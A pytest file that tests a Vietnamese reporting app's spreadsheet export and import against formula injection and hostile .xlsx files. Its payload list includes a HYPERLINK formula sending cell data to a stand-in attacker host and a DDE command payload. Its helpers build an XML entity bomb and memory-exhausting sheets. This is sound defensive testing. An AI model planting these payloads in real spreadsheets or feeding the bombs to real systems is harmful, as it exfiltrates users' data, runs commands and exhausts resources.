"""Spreadsheets, tried as an adversary would: text that looks like a formula stays text in
every .xlsx the app writes (checked with openpyxl's data_type, in the file's XML, and by
LibreOffice Calc), reads back as the same text; an imported .xlsx that is not one, or that
is built to exhaust memory, is refused quickly in Vietnamese."""

from __future__ import annotations

import base64
import html
import io
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop_app.exchange import bundles

from desktop_app.domain import units
from desktop_app.office.consolidation import gather
from desktop_app.documents.consolidated import write_consolidated_xlsx
from desktop_app.documents.export import export_xlsx, import_xlsx
from desktop_app.errors import UserError
from desktop_app.services import Workspace
from tests.conftest import EXAMPLES
from tests.test_consolidation import COMMUNES, _send
from tests.test_hostile_templates import MAX_MIB, MAX_SECONDS, run_cli
from tests.test_startup_states import dump

PAYLOADS = [
    '=HYPERLINK("http://ke-xau.example/?d="&C2,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "#DIV/0!",
    "=1+1",
]
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def _text_fields(template, count: int) -> list[str]:
    return [f.id for f in template.all_fields() if f.kind.value in ("text", "long_text")][:count]


def assert_text_cells(path: Path, expected: list[str]) -> None:
    book = load_workbook(path)
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in expected:
                    found.setdefault(cell.value, []).append(cell.data_type)
    assert set(found) == set(expected), set(expected) - set(found)
    assert all(kind == "s" for kinds in found.values() for kind in kinds), found
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def calc_text(path: Path, tmp_path: Path) -> str:
    """Every sheet as LibreOffice Calc shows it (converted to HTML), tags removed."""
    if not SOFFICE:
        pytest.skip("LibreOffice is not installed (./test.sh installs it)")
    out = tmp_path / "lo"
    proc = subprocess.run([SOFFICE, f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
                           "--convert-to", "html", "--outdir", str(out), str(path)],
                          capture_output=True, text=True, timeout=300)
    result = out / path.with_suffix(".html").name
    if not result.exists() and "could not be loaded" in proc.stdout + proc.stderr:
        pytest.skip("LibreOffice Calc is not installed (only Writer): ./test.sh installs it")
    assert result.exists(), proc.stdout + proc.stderr
    cells = re.findall(r"<td[^>]*>(.*?)</td>", result.read_text(encoding="utf-8", errors="replace"), re.S)
    return "\n".join(html.unescape(re.sub(r"<[^>]+>", "", c)).strip() for c in cells)


@pytest.fixture
def report_with_payloads(workspace):
    import json

    data = json.loads((EXAMPLES / "ntm-tieu-chi-8.json").read_text(encoding="utf-8"))
    workspace.set_unit(data["unit"]["code"], scheme=data["unit"]["scheme"])
    rid, _ = workspace.import_document(data)
    _record, template = workspace.report(rid)
    fields = _text_fields(template, len(PAYLOADS))
    workspace.set_values(rid, dict(zip(fields, PAYLOADS)))
    assert [workspace.report(rid)[0].values[f] for f in fields] == PAYLOADS
    return rid, fields


def test_report_appendix_writes_formula_like_text_as_text_and_reads_it_back(workspace, report_with_payloads,
                                                                            tmp_path):
    rid, fields = report_with_payloads
    target = tmp_path / "phu-luc.xlsx"
    export_xlsx(workspace, rid, target)
    assert_text_cells(target, PAYLOADS)
    fresh = workspace.new_report("ntm-tieu-chi-8", "2024-9M")
    import_xlsx(workspace, fresh, target)
    assert [workspace.report(fresh)[0].values.get(f) for f in fields] == PAYLOADS


@pytest.mark.slow  # opens the file in LibreOffice Calc
def test_report_appendix_shows_the_literal_text_in_libreoffice(workspace, report_with_payloads, tmp_path):
    rid, _ = report_with_payloads
    target = tmp_path / "phu-luc.xlsx"
    export_xlsx(workspace, rid, target)
    shown = calc_text(target, tmp_path)
    for payload in PAYLOADS:
        assert payload in shown.splitlines(), payload  # the text itself, not what it computes
    assert "Bấm vào đây" not in shown.splitlines()


@pytest.fixture
def consolidation_with_payloads(tmp_path):
    sent = [_send(tmp_path, dict(COMMUNES[0], ton_tai=PAYLOADS[0]), "xa0"),
            _send(tmp_path, dict(COMMUNES[1], ton_tai="+1+1"), "xa1")]
    ws = Workspace(tmp_path / "huyen", who="huyen")
    ws.set_unit("534", scheme=units.LEGACY)
    summary = bundles.import_bundles(ws, sent)
    assert len(summary.new) == 2 and not summary.rejected
    yield gather(ws, "ntm-tieu-chi-8", "2023-9M")
    ws.close()


@pytest.mark.slow  # opens the file in LibreOffice Calc
def test_consolidated_xlsx_writes_formula_like_text_as_text(consolidation_with_payloads, tmp_path):
    target = write_consolidated_xlsx(consolidation_with_payloads, tmp_path / "tong-hop.xlsx")
    assert_text_cells(target, [PAYLOADS[0], "+1+1"])
    shown = calc_text(target, tmp_path)
    assert PAYLOADS[0] in shown.splitlines() and "+1+1" in shown.splitlines()


def test_write_only_rows_keep_text_as_text(tmp_path):
    from openpyxl import Workbook

    from desktop_app.documents.xlsx_text import text_row

    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(text_row(sheet, [1, *PAYLOADS, None, 2.5]))
    book.save(tmp_path / "w.xlsx")
    row = next(load_workbook(tmp_path / "w.xlsx")["x"].iter_rows())
    assert [c.value for c in row] == [1, *PAYLOADS, None, 2.5]
    assert [c.data_type for c in row[1:len(PAYLOADS) + 1]] == ["s"] * len(PAYLOADS)


# --- reading: not an .xlsx, or built to exhaust memory -----------------------------------

def test_openpyxl_parses_worksheets_with_defusedxml():
    import openpyxl
    from openpyxl.xml import functions

    assert openpyxl.DEFUSEDXML is True
    assert functions.iterparse.__module__.startswith("defusedxml")


@pytest.fixture
def receiving_report(workspace):
    import json

    data = json.loads((EXAMPLES / "cao-diem-dvctt.json").read_text(encoding="utf-8"))
    workspace.set_unit(data["unit"]["code"], scheme=data["unit"]["scheme"])
    rid, _ = workspace.import_document(data)
    return rid


def _docx_bytes() -> bytes:
    import docx

    buffer = io.BytesIO()
    docx.Document().save(buffer)
    return buffer.getvalue()


def _zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize("content,reason", [
    (_docx_bytes, "tệp Word (.docx) bị đổi tên"),
    (lambda: os.urandom(4096), "không phải tệp Excel (.xlsx) hợp lệ"),
    (lambda: _zip_bytes({"a.txt": b"xin chao"}), "tệp nén (zip) nhưng không phải tệp Excel"),
    (lambda: b"PK\x05\x06" + b"\x00" * 18, "không phải tệp Excel"),
], ids=["docx-renamed", "random-bytes", "plain-zip", "empty-zip"])
def test_files_that_are_not_xlsx_are_named_in_vietnamese(workspace, receiving_report, tmp_path, content, reason):
    target = tmp_path / "nhap.xlsx"
    target.write_bytes(content())
    before = workspace.report(receiving_report)[0].values
    with pytest.raises(UserError, match=re.escape(reason)):
        import_xlsx(workspace, receiving_report, target)
    assert workspace.report(receiving_report)[0].values == before


def _replace_member(source: Path, target: Path, name: str, writer) -> None:
    """Copy ``source`` to ``target`` with member ``name`` written by ``writer(stream)``."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename == name:
                with new.open(name, "w", force_zip64=True) as stream:
                    writer(stream)
            else:
                new.writestr(info, old.read(info))


SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet '
              b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
SHEET_TAIL = b"</sheetData></worksheet>"


def _million_rows(stream) -> None:
    stream.write(SHEET_HEAD)
    for start in range(1, 1_000_001, 10_000):
        stream.write(b"".join(b'<row r="%d"><c r="C%d"><v>1</v></c></row>' % (i, i)
                              for i in range(start, start + 10_000)))
    stream.write(SHEET_TAIL)


def _ten_megabyte_cell(stream) -> None:
    text = base64.b64encode(os.urandom(7_500_000))  # 10 MB that does not compress away
    stream.write(SHEET_HEAD + b'<row r="2"><c r="C2" t="inlineStr"><is><t>' + text + b"</t></is></c></row>"
                 + SHEET_TAIL)


def _entity_bomb(stream) -> None:
    stream.write(b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
                 b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                 b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
                 b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                 b'<row r="2"><c r="C2" t="inlineStr"><is><t>&lol3;</t></is></c></row></sheetData></worksheet>')


@pytest.mark.slow  # writes large hostile files and measures a child process's memory
@pytest.mark.parametrize("writer,reason", [
    (_million_rows, "một trang có quá 10.000 dòng"),
    (_ten_megabyte_cell, "có ô dài quá 32.767 ký tự"),
    (_entity_bomb, "khai báo thực thể XML"),
], ids=["million-rows", "ten-megabyte-cell", "entity-bomb"])
def test_hostile_xlsx_is_refused_quickly_and_in_bounded_memory(tmp_path, writer, reason):
    from desktop_app.cli import main

    data = tmp_path / "data"
    assert main(["--data-dir", str(data), "unit", "set", "--code", "21073", "--legacy"]) == 0
    assert main(["--data-dir", str(data), "report", "import-json", str(EXAMPLES / "cao-diem-dvctt.json")]) == 0
    ws = Workspace(data)
    [summary] = ws.reports()
    exported = export_xlsx(ws, summary.id, tmp_path / "goc.xlsx")
    ws.close()
    with zipfile.ZipFile(exported) as archive:
        sheet = sorted(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))[1]
    hostile = tmp_path / "doc-hai.xlsx"
    _replace_member(exported, hostile, sheet, writer)
    before = dump(data / "baocaoxa.sqlite3")
    code, out, err, seconds, mib = run_cli("--data-dir", str(data), "report", "import-xlsx", str(summary.id),
                                           str(hostile))
    assert code == 2 and reason in err, err
    assert seconds <= MAX_SECONDS, f"took {seconds:.1f} s"
    assert mib <= MAX_MIB, f"peak {mib:.0f} MiB"
    assert dump(data / "baocaoxa.sqlite3") == before
